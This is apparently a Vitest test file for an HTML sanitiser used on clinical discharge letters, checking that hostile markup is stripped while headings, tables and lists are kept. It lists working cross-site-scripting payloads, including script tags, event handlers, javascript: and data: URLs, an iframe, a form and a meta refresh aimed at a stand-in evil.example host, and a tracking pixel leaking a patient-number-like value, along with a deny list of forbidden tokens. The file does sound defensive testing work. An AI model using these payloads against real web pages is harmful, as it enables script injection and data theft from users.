import { describe, expect, it } from 'vitest';
import { sanitiseLetterHtml } from './sanitise-letter.ts';

// A hostile-letter corpus (FHIR narrative XSS cases): none of it may survive as markup that runs or loads.
const HOSTILE = [
  '<script>window.pwned = 1</script>',
  '<img src=x onerror="window.pwned=1">',
  '<a href="javascript:window.pwned=1">click</a>',
  '<svg onload="window.pwned=1"><circle r="1"/></svg>',
  '<iframe src="https://evil.example/"></iframe>',
  '<form action="https://evil.example/"><input name="q"></form>',
  '<style>@import url(//evil.example/x.css)</style>',
  '<base href="https://evil.example/">',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.pwned=1">',
  '<a href="data:text/html,<script>alert(1)</script>">data</a>',
  '<img src="https://tracker.example/p.gif?nhs=9990000018">',
  '<p style="background:url(https://tracker.example/x)">styled</p>',
  '<object data="x.swf"></object><embed src="x.swf">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<div onclick="window.pwned=1" onmouseover="x()">hover</div>',
];

describe('sanitiseLetterHtml', () => {
  it('removes script, handlers, frames, forms, styles, remote resources and navigation', () => {
    for (const input of HOSTILE) {
      const out = sanitiseLetterHtml(input).toLowerCase();
      for (const forbidden of [
        '<script',
        'onerror',
        'onload',
        'onclick',
        'onmouseover',
        'javascript:',
        '<iframe',
        '<form',
        '<input',
        '<style',
        '@import',
        '<base',
        '<img',
        'src=',
        'href=',
        'style=',
        '<svg',
        '<math',
        '<object',
        '<embed',
        '<meta',
        'data:text',
      ]) {
        expect(out, `${input} → ${out}`).not.toContain(forbidden);
      }
    }
  });

  it('keeps the clinical content and structure a reader needs', () => {
    const letter =
      '<h1>Discharge summary</h1><p>Diagnosis: <strong>community-acquired pneumonia</strong></p>' +
      '<table><tr><th scope="col">Drug</th><th>Dose</th></tr><tr><td>Amoxicillin</td><td>500 mg TDS</td></tr></table>' +
      '<ul><li>Follow-up in clinic</li></ul><p>See <a href="https://example.org">guidance</a>.</p>';
    const out = sanitiseLetterHtml(letter);
    expect(out).toContain('<h1>Discharge summary</h1>');
    expect(out).toContain('<strong>community-acquired pneumonia</strong>');
    expect(out).toContain('<th scope="col">Drug</th>');
    expect(out).toContain('<td>500 mg TDS</td>');
    expect(out).toContain('<li>Follow-up in clinic</li>');
    expect(out).toContain('See guidance.');
  });

  it('escapes text that looks like markup instead of interpreting it', () => {
    expect(sanitiseLetterHtml('<p>K+ &lt; 3.5 &amp; falling</p>')).toBe('<p>K+ &lt; 3.5 &amp; falling</p>');
  });
});
